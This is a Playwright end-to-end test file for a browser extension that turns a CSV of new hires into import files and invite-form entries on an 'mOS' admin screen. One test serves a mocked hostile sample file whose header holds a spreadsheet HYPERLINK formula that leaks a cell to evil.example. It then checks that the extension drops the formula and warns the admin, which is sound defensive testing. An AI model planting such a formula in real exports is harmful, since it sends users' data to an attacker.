import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSession, waitForMockEvents, type ExtensionSession } from './support/extension';
import { draftOfCsv } from './support/editor';

const PANEL = '[data-testid=mos-import-panel]';

/** Makes a draft the way an admin does: a file through the editor's import box. */
async function panelWidth(page: Page): Promise<number> {
  return page.locator(PANEL).evaluate((frame) => frame.getBoundingClientRect().width);
}

describe('the import panel on the mOS My Organization screen', () => {
  let session: ExtensionSession;
  beforeAll(async () => {
    session = await startSession();
    await draftOfCsv(
      session,
      'new-hires.csv',
      [
        'First Name,Last Name,Email,Job Title,mos_opportunity',
        'Ada,Lovelace,ada@acme.example,Account Executive,TRUE',
        'Sam,Lee,SAM.LEE@acme.example,Sales Development Representative,',
        'Alan,Turing,alan@acme.example,Sales Engineer,',
      ].join('\n'),
    );
  });
  afterAll(async () => {
    await session?.close();
  });

  // Two mocks built differently: semantic HTML, and React/MUI-like (div buttons, grids, portals).
  it.each(['/mos/', '/mos-mui/'])('on %s: shows the seats the import will use, and follows single-page navigation both ways', async (path) => {
    const mos = await session.context.newPage();
    await mos.goto(`${session.demoOrigin}${path}`);
    const panel = mos.frameLocator(PANEL);
    // Sam Lee is already a member: two people to invite, two Enable seats, one Opportunity seat.
    await expect.poll(() => panel.getByTestId('plan-to-import').textContent()).toBe('2');
    expect(await panel.getByTestId('seats-enable').textContent()).toBe('2');
    expect(await panel.getByTestId('seats-opportunity').textContent()).toBe('1');
    expect(await panel.getByTestId('plan-already-members').textContent()).toContain('1 already in mOS');

    await mos.getByRole('link', { name: 'Dashboard' }).click();
    await expect.poll(() => mos.locator(PANEL).count()).toBe(0);
    await mos.goBack();
    await expect.poll(() => mos.locator(PANEL).count()).toBe(1);
    await mos.getByRole('link', { name: 'Dashboard' }).click();
    await expect.poll(() => mos.locator(PANEL).count()).toBe(0);
    await mos.getByRole('link', { name: 'My Organization' }).click();
    await expect.poll(() => mos.locator(PANEL).count()).toBe(1);
  });

  it.each(['/mos/', '/mos-mui/'])('on %s: folds away, stays folded on the next visit, and unfolds from the keyboard', async (path) => {
    const mos = await session.context.newPage();
    await mos.goto(`${session.demoOrigin}${path}`);
    const panel = mos.frameLocator(PANEL);
    await panel.getByTestId('panel-toggle').click();
    await expect.poll(() => panelWidth(mos)).toBeLessThan(60);
    await expect.poll(() => panel.getByTestId('panel-toggle').getAttribute('aria-expanded')).toBe('false');

    await mos.reload();
    await expect.poll(() => panelWidth(mos)).toBeLessThan(60);
    await mos.frameLocator(PANEL).getByTestId('panel-toggle').press('Enter');
    await expect.poll(() => panelWidth(mos)).toBeGreaterThan(300);
    expect(await mos.frameLocator(PANEL).getByTestId('panel-toggle').getAttribute('aria-expanded')).toBe('true');
  });

  it('follows the page template when mOS offers a different one, and says what it could not fill', async () => {
    const mos = await session.context.newPage();
    await mos.goto(`${session.demoOrigin}/mos/?template=newer`);
    const panel = mos.frameLocator(PANEL);
    await expect.poll(() => panel.getByTestId('plan-to-import').textContent()).toBe('2');
    const before = Number((await mos.evaluate(() => document.body.dataset.mosMockEvents)) ?? 0);
    await panel.getByTestId('send-to-mos').click();
    await waitForMockEvents(mos, before + 1);
    const received = await mos.evaluate(() => (window as any).mosMock.received.at(-1) as { text: string });
    const [header, ...lines] = received.text.split('\n');
    expect(header).toBe('email,user_id,first_name,last_name,job_title,mos_enable,course_enrollments,team');
    expect(lines.map((l) => l.split(',')[0])).toEqual(['ada@acme.example', 'alan@acme.example']);
    await expect.poll(() => panel.locator('body').textContent()).toContain('left empty: team');
    expect(await panel.locator('body').textContent()).toContain('no mos_opportunity column');
  });

  it('keeps the standard columns, and says why, when the page\'s template has a formula for a column name', async () => {
    const mos = await session.context.newPage();
    // A hostile version of the mOS app: its "Download Sample File" names a column with a spreadsheet formula.
    await mos.route(/\/mos\/sample\.csv$/, (route) =>
      route.fulfill({
        contentType: 'text/csv',
        body: '=HYPERLINK("http://evil.example/?leak=" & B2),user_id,first_name,last_name,email,job_title,mos_enable\n',
      }),
    );
    await mos.goto(`${session.demoOrigin}/mos/`);
    const panel = mos.frameLocator(PANEL);
    await expect.poll(() => panel.getByTestId('plan-to-import').textContent()).toBe('2');
    const before = Number((await mos.evaluate(() => document.body.dataset.mosMockEvents)) ?? 0);
    await panel.getByTestId('send-to-mos').click();
    await waitForMockEvents(mos, before + 1);
    const received = await mos.evaluate(() => (window as any).mosMock.received.at(-1) as { text: string });
    expect(received.text.split('\n')[0]).toBe('user_id,first_name,last_name,email,job_title,mos_enable,mos_opportunity,course_enrollments');
    expect(received.text).not.toContain('HYPERLINK');
    await expect.poll(() => panel.locator('body').textContent()).toContain('looks like a spreadsheet formula');
    await mos.close();
  });

  it('offers the same file as a download instead', async () => {
    const mos = await session.context.newPage();
    await mos.goto(`${session.demoOrigin}/mos/`);
    const panel = mos.frameLocator(PANEL);
    await expect.poll(() => panel.getByTestId('plan-to-import').textContent()).toBe('2');
    const [download] = await Promise.all([
      mos.waitForEvent('download'),
      panel.getByTestId('panel-download-csv').click(),
    ]);
    const csv = await readFile((await download.path())!, 'utf8');
    const lines = csv.split('\n');
    expect(lines[0]).toBe('user_id,first_name,last_name,email,job_title,mos_enable,mos_opportunity,course_enrollments');
    expect(lines.slice(1).map((l) => l.split(',').slice(1, 7).join(','))).toEqual([
      'Ada,Lovelace,ada@acme.example,Account Executive,TRUE,TRUE',
      'Alan,Turing,alan@acme.example,Sales Engineer,TRUE,FALSE',
    ]);
  });

  it('fills the page\'s + Invite form for a handful of people, and leaves Invite Member to the admin', async () => {
    const mos = await session.context.newPage();
    await mos.goto(`${session.demoOrigin}/mos/`);
    const panel = mos.frameLocator(PANEL);
    await expect.poll(() => panel.getByTestId('plan-to-import').textContent()).toBe('2');
    await panel.getByTestId('panel-fill-invite').click();
    await expect.poll(() => panel.locator('body').textContent()).toContain('The + Invite form holds 2 people');
    // Ada has an Opportunity seat, which this version of the form cannot set: the admin is told, by name.
    expect(await panel.locator('body').textContent()).toContain('ada@acme.example: Product Access – the page’s form has no Product Access field');
    const dialog = mos.getByRole('dialog', { name: 'Invite Members' });
    expect(await mos.evaluate(() => (window as any).mosMock.invited.length)).toBe(0);
    await dialog.getByRole('button', { name: 'Invite Member' }).click();
    await waitForMockEvents(mos, 1);
    const invited = await mos.evaluate(() => (window as any).mosMock.invited as Array<Record<string, string>>);
    expect(invited.map((p) => [p.first_name, p.last_name, p.email, p.job_title, p.permissions])).toEqual([
      ['Ada', 'Lovelace', 'ada@acme.example', 'Account Executive', 'Member'],
      ['Alan', 'Turing', 'alan@acme.example', 'Sales Engineer', 'Member'],
    ]);
  });
});
